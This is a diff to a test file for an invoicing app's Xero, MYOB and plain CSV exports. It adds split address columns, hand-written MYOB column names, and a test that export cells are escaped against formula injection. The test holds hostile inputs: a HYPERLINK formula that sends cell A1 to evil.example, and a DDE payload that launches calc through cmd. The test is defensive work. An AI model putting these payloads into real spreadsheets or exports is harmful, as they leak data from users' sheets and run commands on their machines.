@@ -73,7 +73,11 @@ describe.each(backends)('accounting export on %s (issue 12)', (kind) => {
     expect(data[0]).toMatchObject({
       '*ContactName': 'Jo Citizen',
       POAddressLine1: '1 Beach Rd',
-      POAddressLine2: 'Thirroul NSW 2515',
+      POAddressLine2: '', // issue 18: suburb, state and postcode in their own columns
+      POCity: 'Thirroul',
+      PORegion: 'NSW',
+      POPostalCode: '2515',
+      POCountry: 'Australia',
       '*InvoiceDate': '02/11/2026',
       '*DueDate': '16/11/2026',
       '*TaxType': 'GST on Income',
@@ -95,17 +99,45 @@ describe.each(backends)('accounting export on %s (issue 12)', (kind) => {
     const res = await client.get('/api/export/invoices.csv?from=2026-11-01&to=2026-11-30&format=myob');
     const { data, meta } = parse(res.body as string);
     expect(meta.fields).toEqual([...MYOB_COLUMNS]);
-    const sales = data.filter((r) => r['Invoice #']);
-    expect(data.filter((r) => !r['Invoice #'] && Object.values(r).every((v) => v === ''))).toHaveLength(3);
+    // MYOB's own field names (AccountRight "Sales - Service" import fields), written out by hand
+    expect(meta.fields).toEqual([
+      'Co./Last Name',
+      'First Name',
+      'Addr 1 - Line 1',
+      'Addr 1 - Line 2',
+      'Addr 1 - Line 3',
+      'Addr 1 - Line 4',
+      'Inclusive',
+      'Invoice No.',
+      'Date',
+      'Customer PO',
+      'Description',
+      'Account No.',
+      'Amount',
+      'Inc-Tax Amount',
+      'Job',
+      'Comment',
+      'Journal Memo',
+      'Tax Code',
+      'Non-GST Amount',
+      'GST Amount',
+      'Sale Status',
+      'Terms - Payment is Due',
+      ' - Balance Due Days',
+      'Amount Paid',
+      'Payment Method',
+    ]);
+    const sales = data.filter((r) => r['Invoice No.']);
+    expect(data.filter((r) => !r['Invoice No.'] && Object.values(r).every((v) => v === ''))).toHaveLength(3);
     for (const n of ['INV-0001', 'INV-0002', 'INV-0003']) {
-      const rows = sales.filter((r) => r['Invoice #'] === n);
+      const rows = sales.filter((r) => r['Invoice No.'] === n);
       const inv = byNumber.get(n)!;
       expect(rows.reduce((s, r) => s + cents(r['Amount']), 0)).toBe(inv.subtotalCents);
       expect(rows.reduce((s, r) => s + cents(r['GST Amount']), 0)).toBe(inv.gstCents);
       expect(rows.reduce((s, r) => s + cents(r['Inc-Tax Amount']), 0)).toBe(inv.totalCents);
       expect(rows[0]['Tax Code']).toBe('GST');
     }
-    expect(sales.find((r) => r['Invoice #'] === 'INV-0001')!['Amount Paid']).toBe('500.00');
+    expect(sales.find((r) => r['Invoice No.'] === 'INV-0001')!['Amount Paid']).toBe('500.00');
   });
 
   it('plain: every invoice with totals, paid and owing, and every payment in the range (an older invoice paid in range too)', async () => {
@@ -127,6 +159,40 @@ describe.each(backends)('accounting export on %s (issue 12)', (kind) => {
     expect(payments.reduce((s, p) => s + cents(p['Payment amount']), 0)).toBe(
       50_000 + byNumber.get('INV-0002')!.totalCents + byNumber.get('INV-0000')!.totalCents,
     );
+  });
+
+  it('neutralises formula cells from a hostile customer name and a hostile supplier line in every format; our numbers stay numbers (issue 18)', async () => {
+    const { client } = await signedInClient(server);
+    await setUpBusiness(client);
+    const hostile = invoiceArgs({
+      invoiceNumber: 'INV-0101',
+      invoiceDate: '2026-11-05',
+      customerName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      customerEmail: '',
+      customerAddress: '+61 Evil St\n@SUM(1+1) NSW 2000',
+      title: '-2+3',
+      items: [
+        invoiceItem("=cmd|' /C calc'!A0", 1, 10_000),
+        invoiceItem('-10% supplier discount', 2, 500),
+        invoiceItem('@Price file line', 1, 100),
+      ],
+    });
+    await push(client, [
+      { name: 'invoice.create', args: hostile },
+      { name: 'invoice.send', args: { id: hostile.id, to: null } },
+    ]);
+    for (const format of ['xero', 'myob', 'plain']) {
+      const res = await client.get(`/api/export/invoices.csv?from=2026-11-01&to=2026-11-30&format=${format}`);
+      const { data, meta } = parse(res.body as string);
+      const cells = data.flatMap((r) => meta.fields!.map((f) => [f, r[f] ?? ''] as const));
+      const dangerous = cells.filter(([, v]) => /^[=+\-@\t\r]/.test(v));
+      // only amounts we wrote may start with "-" (none here), and nothing else may start a formula
+      expect(dangerous.filter(([, v]) => !/^-\d+\.\d\d$/.test(v))).toEqual([]);
+      expect(cells.some(([, v]) => v.startsWith("'=HYPERLINK"))).toBe(true);
+    }
+    const xero = parse((await client.get('/api/export/invoices.csv?from=2026-11-01&to=2026-11-30&format=xero')).body as string).data;
+    expect(xero.map((r) => r['*Description'])).toEqual(["'=cmd|' /C calc'!A0", "'-10% supplier discount", "'@Price file line"]);
+    expect(xero[0]).toMatchObject({ POAddressLine1: "'+61 Evil St", Reference: "'-2+3", '*UnitAmount': '100.00' });
   });
 
   it('refuses a bad range with the field named, and shows only the business’s own invoices', async () => {
